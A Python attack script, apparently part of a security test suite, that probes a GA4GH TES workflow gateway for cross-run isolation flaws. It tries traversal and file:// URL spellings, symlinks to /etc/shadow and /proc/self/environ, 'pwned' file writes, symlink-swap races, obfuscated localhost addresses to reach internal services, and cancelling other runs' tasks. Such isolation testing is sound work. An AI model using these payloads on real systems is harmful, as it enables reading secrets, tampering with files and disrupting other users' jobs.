"""Started by a hostile Snakefile in its work folder: asks the gateway for other runs' files in every spelling of a
URL, by wildcards, and by folders that change while a task waits.

    python gateway_attack.py TARGETS

TARGETS is a JSON file: `read` and `write` (paths), `ports` (host:port), `tasks` (ids of another run's), `image`, and
`cpus`, all that the TES has.
What became of each task is written to `gateway.json`: its name, the gateway's answer and its last state.
"""

import json
import os
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import quote

GATEWAY = "http://127.0.0.1:8765/ga4gh/tes/v1"
WORK = Path.cwd()
TOKEN = (WORK.parent / "control" / "tes-token").read_text().strip()
ENDED = {"COMPLETE", "EXECUTOR_ERROR", "SYSTEM_ERROR", "CANCELED", "PREEMPTED"}
TARGETS = json.loads(Path(sys.argv[1]).read_text())
PATIENCE = 100.0


def call(method, path, body=None):
    data = None if body is None else json.dumps(body).encode()
    headers = {"Authorization": "Bearer " + TOKEN, "Content-Type": "application/json"}
    request = urllib.request.Request(GATEWAY + path, data=data, headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, json.loads(answer.read() or b"{}")
    except urllib.error.HTTPError as error:
        return error.code, {}


def spellings(path):
    """One file in the ways that parsers of URLs disagree about."""
    dotted = "/".join(["", *("%2e%2e" for _ in WORK.parts[1:])]) + path
    up = "/".join(".." for _ in WORK.parts[1:])
    yield from (
        path,
        "/" + path,
        "//" + path,
        f"/proc/self/root{path}",
        f"/proc/1/root{path}",
        f"/proc/self/cwd/{up}{path}",
    )
    yield from (
        f"{scheme}{path}" for scheme in ("file:", "FILE:", "file://", "FILE://", "File://", "file:///", "file:////")
    )
    yield from (
        f"file://{host}{path}" for host in ("localhost", "LOCALHOST", "127.0.0.1", "[::1]", "..", ".", "x@localhost")
    )
    yield from (
        "file://localhost/.." + path,
        f"file://{WORK}/{up}{path}",
        f"file://{WORK}{dotted}",
        f"{WORK}/{up}{path}",
    )
    yield from ("file://" + quote(path, safe=""), "file://" + path.replace("/", "%2F"), "file://" + quote(quote(path)))
    yield from (
        "file:%2f%2f" + path,
        " file://" + path,
        "file://" + path + "#x",
        "file://" + path + "?x",
        "file://" + path + "%00.txt",
    )
    yield from (
        up.removeprefix("../") + path,
        "." + path,
        "../" + path.lstrip("/"),
        "file:" + up + path,
        "file://" + up + path,
    )
    yield from (
        "file:\\\\" + path.replace("/", "\\"),
        "url:file://" + path,
        "local://" + path,
        "vfs:" + path,
        "file+x://" + path,
    )


def task(name, inputs=(), outputs=(), command="cat /in/*", cpus=1):
    return {
        "name": name,
        "executors": [{"image": TARGETS["image"], "command": ["sh", "-c", command], "workdir": "/out"}],
        "inputs": list(inputs),
        "outputs": list(outputs),
        "volumes": ["/out"],
        "resources": {"cpu_cores": cpus, "ram_gb": 0.1},
    }


def attacks():
    (WORK / "own").mkdir(exist_ok=True)
    (WORK / "own" / "file").write_text("my own\n")
    yield "control", task("control", [file_input(f"file://{WORK}/own/file")])
    yield from reads()
    yield from links()
    for folder in TARGETS["write"]:
        yield from writes(folder)
    for address in TARGETS["ports"]:
        yield f"http {address}", task("http", [file_input(f"http://{address}/")])
    port = TARGETS["ports"][0].rpartition(":")[2]
    for host in ("2130706433", "127.1", "0", "0.0.0.0", "[::ffff:127.0.0.1]", "[::]", "localhost.", "0x7f.1"):
        yield f"http {host}", task("http", [file_input(f"http://{host}:{port}/ga4gh/wes/v1/service-info")])


def file_input(url, path="/in/x", kind="FILE"):
    return {"url": url, "path": path, "type": kind}


def reads():
    for number, url in enumerate(spellings(TARGETS["read"][0])):
        yield f"read {url}", task(f"read{number}", [file_input(url)])
    for path in sorted({str(Path(one).parent) for one in TARGETS["read"]}):
        folder = file_input("file://" + path, "/in", "DIRECTORY")
        yield f"folder {path}", task("folder", [folder], command="cat /in/* /in/*/*")


def links():
    own = WORK / "own"
    for number, target in enumerate((*TARGETS["read"][:2], "/proc/self/environ", "/etc/shadow")):
        (own / f"link{number}").symlink_to(target)
        yield f"link to {target}", task("link", [file_input(f"file://{own}/link{number}")])
        if target.startswith("/proc/"):
            # A link in a folder stays a link: inside, this one leads to what is the task's own.
            continue
        whole = file_input(f"file://{own}", "/in", "DIRECTORY")
        yield f"folder with a link to {target}", task("links", [whole], command=f"cat /in/link{number}")


def writes(folder):
    for number, url in enumerate(spellings(folder + "/pwned")):
        output = {"url": url, "path": "/out/f", "type": "FILE"}
        yield f"write {url}", task(f"write{number}", outputs=[output], command="echo pwned > /out/f")
    wildcard = {"url": "file://" + folder, "path": "/out/p*", "path_prefix": "/out", "type": "FILE"}
    yield f"wildcard to {folder}", task("wildcard", outputs=[wildcard], command="echo pwned > /out/pwned")
    up = os.path.relpath(folder, WORK)
    prefix = {"url": f"file://{WORK}/{up}", "path": "/out/../out/p*", "path_prefix": "/out/..", "type": "FILE"}
    yield f"prefix to {folder}", task("prefix", outputs=[prefix], command="echo pwned > /out/pwned")


def swapped():
    """Tasks that wait for the machine while what they named becomes a link; a race besides. They may read
    what is ours."""
    occupant = post("occupant", task("occupant", command="sleep 4", cpus=TARGETS["cpus"]))
    waiting = [occupant]
    secret = Path(TARGETS["read"][1])
    for number, target in enumerate((secret.parent, *map(Path, TARGETS["write"]))):
        here = WORK / f"swap{number}"
        here.mkdir()
        (here / secret.name).write_text("my own\n")
        name = f"swap {target}"
        inputs = [{"url": f"file://{here}/{secret.name}", "path": "/in/x", "type": "FILE"}]
        outputs = [{"url": f"file://{here}/pwned", "path": "/out/f", "type": "FILE"}]
        waiting.append(post(name, task("swap", inputs, outputs, "echo pwned > /out/f; cat /in/x")))
        waiting.append(
            post(
                name + " whole",
                task("swap", [{"url": f"file://{here}", "path": "/in", "type": "DIRECTORY"}], command="cat /in/*"),
            )
        )
        here.rename(WORK / f"old{number}")
        here.symlink_to(target)
    flip, stop = WORK / "flip", threading.Event()

    def turn():
        (WORK / "real").mkdir()
        (WORK / "real" / secret.name).write_text("my own\n")
        while not stop.is_set():
            for target in (WORK / "real", secret.parent, WORK / "real", secret.parent):
                (WORK / "next").symlink_to(target)
                (WORK / "next").replace(flip)
            # For as long as forty tasks take; without a rest it would be most of what this suite uses.
            time.sleep(0.001)

    threading.Thread(target=turn, daemon=True).start()
    while not flip.exists():
        time.sleep(0.01)
    for number in range(20):
        waiting.append(
            post(
                "flip",
                task(f"flip{number}", [{"url": f"file://{flip}/{secret.name}", "path": "/in/x", "type": "FILE"}]),
            )
        )
        waiting.append(
            post(
                "flip",
                task(
                    f"flop{number}",
                    outputs=[{"url": f"file://{flip}/pwned", "path": "/out/f", "type": "FILE"}],
                    command="echo pwned > /out/f",
                ),
            )
        )
    done = [ended(one) for one in waiting]
    stop.set()
    return done


def post(name, body):
    status, answer = call("POST", "/tasks", body)
    return {"name": name, "status": status, "id": answer.get("id"), "state": None}


def ended(one):
    deadline = time.monotonic() + PATIENCE
    while one["id"] and one["state"] not in ENDED and time.monotonic() < deadline:
        one["state"] = call("GET", f"/tasks/{one['id']}")[1].get("state")
        time.sleep(0.05)
    return one


answers = [post(name, body) for name, body in attacks()]
_, listed = call("GET", "/tasks?view=FULL")
seen = sorted({one["tags"].get("wes.run_id", "") for one in listed.get("tasks", [])})
foreign = [(method, call(method, "/tasks/" + name)[0]) for name in TARGETS["tasks"] for method in ("GET",)]
foreign += [("cancel", call("POST", f"/tasks/{name}:cancel")[0]) for name in TARGETS["tasks"]]
result = {"strict": [ended(one) for one in answers], "loose": swapped(), "runs": seen, "foreign": foreign}
(WORK / "gateway.json").write_text(json.dumps(result))
